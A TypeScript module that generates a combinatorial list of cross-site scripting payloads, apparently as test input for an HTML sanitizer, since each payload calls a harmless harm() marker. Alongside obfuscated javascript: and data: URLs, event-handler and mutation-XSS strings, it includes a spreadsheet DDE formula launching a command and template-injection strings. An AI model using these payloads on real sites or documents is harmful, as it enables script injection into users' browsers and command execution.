/*
 * Markup that has run scripts somewhere before, made by combination: addresses (schemes × ways to write them) in every
 * place that takes one, and events (tags × ways to write an attribute). Each calls harm() when it runs.
 */
const act = "harm()";
const base64 = Buffer.from(`<script>top.${act}</script>`).toString("base64");

const schemes = [
  `javascript:${act}`,
  `JaVaScRiPt:${act}`,
  `javascript://%0a${act}`,
  `vbscript:${act}`,
  `data:text/html,<script>top.${act}</script>`,
  `data:text/html;base64,${base64}`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.${act}'/>`,
  `feed:javascript:${act}`,
];

/** How an address can be written so that a check of its first letters fails and a browser still follows it. */
const writings: ((address: string) => string)[] = [
  (address) => address,
  (address) => `\u0001\u0009 ${address}`,
  (address) => address.replace("s", "s\u0009").replace(":", "\u000a:"),
  (address) => address.replace(/[a-z]/gi, (letter) => `&#${letter.charCodeAt(0)};`),
  (address) => address.replace(/[a-z:]/gi, (letter) => `&#x${letter.charCodeAt(0).toString(16)}`),
  (address) => address.replace(":", "&colon;").replace("t", "&Tab;t"),
];

/** Addresses as a socket or a Word file can carry them, without the letters of HTML. */
export const hostileAddresses = schemes.flatMap((scheme) => writings.slice(0, 3).map((write) => write(scheme)));

const holders: ((address: string) => string)[] = [
  (at) => `<a href="${at}">x</a>`,
  (at) => `<a href='${at}' target=_self><b>x</b></a>`,
  (at) => `<svg><a xlink:href="${at}"><text y=9>x</text></a></svg>`,
  (at) => `<math><mtext href="${at}" xlink:href="${at}">x</mtext></math>`,
  (at) => `<iframe src="${at}"></iframe>`,
  (at) => `<form action="${at}"><button formaction="${at}">x</button><input type=image src="${at}"></form>`,
  (at) => `<object data="${at}"></object><embed src="${at}">`,
  (at) => `<img src="${at}" srcset="${at}"><video poster="${at}"><source src="${at}"></video>`,
  (at) => `<base href="${at}"><link rel="stylesheet" href="${at}"><meta http-equiv=refresh content="0;url=${at}">`,
];

const events = [
  ["img src=x", "onerror"],
  ["svg", "onload"],
  ["body", "onpageshow"],
  ["video src=x", "onerror"],
  ["audio src=x", "onerror"],
  ["details open", "ontoggle"],
  ["input autofocus", "onfocus"],
  ["p tabindex=1 autofocus style=animation-name:look", "onanimationstart"],
  ["span data-field=duration", "onmouseover"],
  ["section data-clause=C05", "onclick"],
  ["marquee", "onstart"],
  ["iframe src=about:blank", "onload"],
  ["table", "onpointerenter"],
] as const;

const handlers: ((tag: string, event: string) => string)[] = [
  (tag, event) => `<${tag} ${event}="${act}">x`,
  (tag, event) => `<${tag} ${event}=${act}>x`,
  (tag, event) => `<${tag} a='"' ${event.toUpperCase()}='${act}'>x`,
  (tag, event) => `<${tag.replaceAll(" ", "/")}/${event}="&#104;arm()">x`,
  (tag, event) => `<${tag} title="</${tag.split(" ")[0]}><img src=x onerror=${act}>" ${event}='${act}'>x`,
];

/** Those that swallow or reshape what stands behind them; each is tried by itself. */
const reshaping = [
  `<script>${act}</script>`,
  `<script src="data:text/javascript,${act}"></script>`,
  `<style>@import 'javascript:${act}';*{background:url("javascript:${act}")}</style>`,
  `<noscript><p title="</noscript><img src=x onerror=${act}>"></noscript>`,
  `<textarea><p title="</textarea><img src=x onerror=${act}>"></textarea>`,
  `<title><img title="</title><img src=x onerror=${act}>"></title>`,
  `<xmp><p title="</xmp><img src=x onerror=${act}>"></xmp>`,
  `<!--><img src=x onerror=${act}>--><!--<img title="--><img src=x onerror=${act}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${act}&gt;">`,
  `<svg></p><style><a title="</style><img src=x onerror=${act}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${act}>`,
  `<template shadowrootmode=open><img src=x onerror=${act}></template>`,
  `<svg><animate attributeName=href values="javascript:${act}" begin=0s /><set attributeName=onload to=${act} />`,
  `<svg><use href="data:image/svg+xml;base64,${base64}#x"/><foreignObject><img src=x onerror=${act}></foreignObject></svg>`,
  `<select><option><script>${act}</script></select>`,
  `<p style="background:url(javascript:${act});behavior:url(#x);-moz-binding:url(//x)">x</p>`,
  `<img src="x\u0060 onerror=${act}\u0060"><img/src=x/onerror=${act}>`,
  `<span data-field="duration" data-yes="<img src=x onerror=${act}>" data-no="<script>${act}</script>"></span>`,
  `<span data-field="__proto__"></span><div data-field-table="constructor"></div>`,
  `=HYPERLINK("javascript:${act}","x")`,
  `@SUM(1+1)*cmd|' /C calc'!A1`,
  `{{constructor.constructor('${act}')()}}\${${act}}<%= ${act} %>`,
  `"><svg/onload=${act}>`,
  `'-${act}-'`,
  `</script><script>${act}</script>`,
  `\u2028${act}//]]>`,
];

const combined = [
  ...holders.flatMap((hold) => schemes.flatMap((scheme) => writings.map((write) => hold(write(scheme))))),
  ...events.flatMap(([tag, event]) => handlers.map((handle) => handle(tag, event))),
];

export const hostileMarkup = { combined, reshaping, all: [...combined, ...reshaping] };
